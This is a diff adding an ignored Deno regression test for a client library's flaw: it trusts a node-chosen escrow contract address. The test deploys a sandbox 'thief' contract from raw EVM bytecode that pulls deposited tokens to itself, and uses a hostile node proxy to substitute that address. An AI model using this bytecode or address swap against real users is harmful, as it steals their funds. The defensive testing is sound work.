@@ -1,0 +1,85 @@
+/**
+ * An escrow that is not the Escrow. The escrow a paid start deposits into
+ * is the one the node names (`payment.escrowAddress`), checked only to be
+ * an address with the Escrow's view functions: a node that names a
+ * contract of its own (here 72 bytes: any call answers zeros, `deposit`
+ * pulls the amount to itself) has tidepool approve it and "deposit" the
+ * job's price into it. The real Escrow never sees the deposit, so the
+ * node's lock there fails and no job starts, and the payer's 0.75 Ocean is
+ * gone for good: neither in the wallet nor in the Escrow, where
+ * `withdrawEscrow` would take it back (read with viem). The class: a
+ * contract address the node chooses, trusted as the Escrow. Members: the
+ * escrow named at the quote and at the start alike.
+ *
+ * Not fixed (ignored): tidepool has no address of the Escrow it can trust
+ * for a chain (ocean-contracts' address list, or one the caller names);
+ * see the report of h-escrowattack.
+ */
+
+import assert from "node:assert/strict";
+import { concat, type Hex, parseEther, toHex } from "viem";
+import { OceanNode } from "../../mod.ts";
+import { chainClients } from "../../lib/sandbox/chain/_chain_clients.ts";
+import { hostileNode } from "./_money_world.ts";
+import { escrowWorld, payer } from "./_escrow_world.ts";
+
+type Json = Record<string, unknown>;
+
+/** Runtime code: `deposit(token, amount)` calls token.transferFrom(caller, this, amount); else 192 zero bytes. */
+const RUNTIME: Hex = "0x" +
+  "600035" + "60e01c" + "6347e7ef24" + "14" + "601457" + "60c0" + "6000" + "f3" + // dispatch
+  "5b" + "6323b872dd" + "60e01b" + "600052" + "33600452" + "30602452" + "602435604452" +
+  "6020" + "6000" + "6064" + "6000" + "6000" + "600435" + "5a" + "f1" + // transferFrom
+  "15" + "604257" + "00" + "5b" + "60006000fd" as Hex;
+
+async function deployThief(world: Awaited<ReturnType<typeof escrowWorld>>): Promise<Hex> {
+  const { walletClient, publicClient } = chainClients(world.chain);
+  const [deployer] = await walletClient.requestAddresses();
+  const length = (RUNTIME.length - 2) / 2;
+  // PUSH1 len DUP1 PUSH1 11 PUSH1 0 CODECOPY PUSH1 0 RETURN, then the runtime.
+  const init = concat([
+    `0x60${toHex(length).slice(2).padStart(2, "0")}80600b6000396000f3`,
+    RUNTIME,
+  ]);
+  const hash = await walletClient.sendTransaction({
+    account: deployer,
+    data: init,
+    chain: walletClient.chain,
+  });
+  const receipt = await publicClient.waitForTransactionReceipt({ hash });
+  assert.ok(receipt.contractAddress, "the thief is deployed");
+  return receipt.contractAddress;
+}
+
+Deno.test({
+  name: "a node naming its own contract as the escrow takes no deposit",
+  ignore: true,
+  fn: async () => {
+    const world = await escrowWorld();
+    try {
+      const thief = await deployThief(world);
+      const proxy = hostileNode(world.ocean.url, (url, body) => {
+        if (url.pathname !== "/api/services/initializeCompute") return undefined;
+        const terms = body as { payment: Json };
+        return { ...terms, payment: { ...terms.payment, escrowAddress: thief } };
+      });
+      try {
+        const { address, request } = await payer(world);
+        const node = new OceanNode(proxy.url, { progress: false, retry: false });
+        await node.startCompute(request).catch(() => undefined);
+        const funds = await world.funds(address);
+        const thiefHolds = await world.balance(world.chain.contracts.oceanToken, thief);
+        assert.equal(thiefHolds, 0n, "the node's contract took nothing");
+        assert.equal(
+          await world.oceanOf(address) + funds.available + funds.locked,
+          parseEther("10"),
+          "every Ocean is in the wallet or in the Escrow",
+        );
+      } finally {
+        await proxy.close();
+      }
+    } finally {
+      await world.close();
+    }
+  },
+});
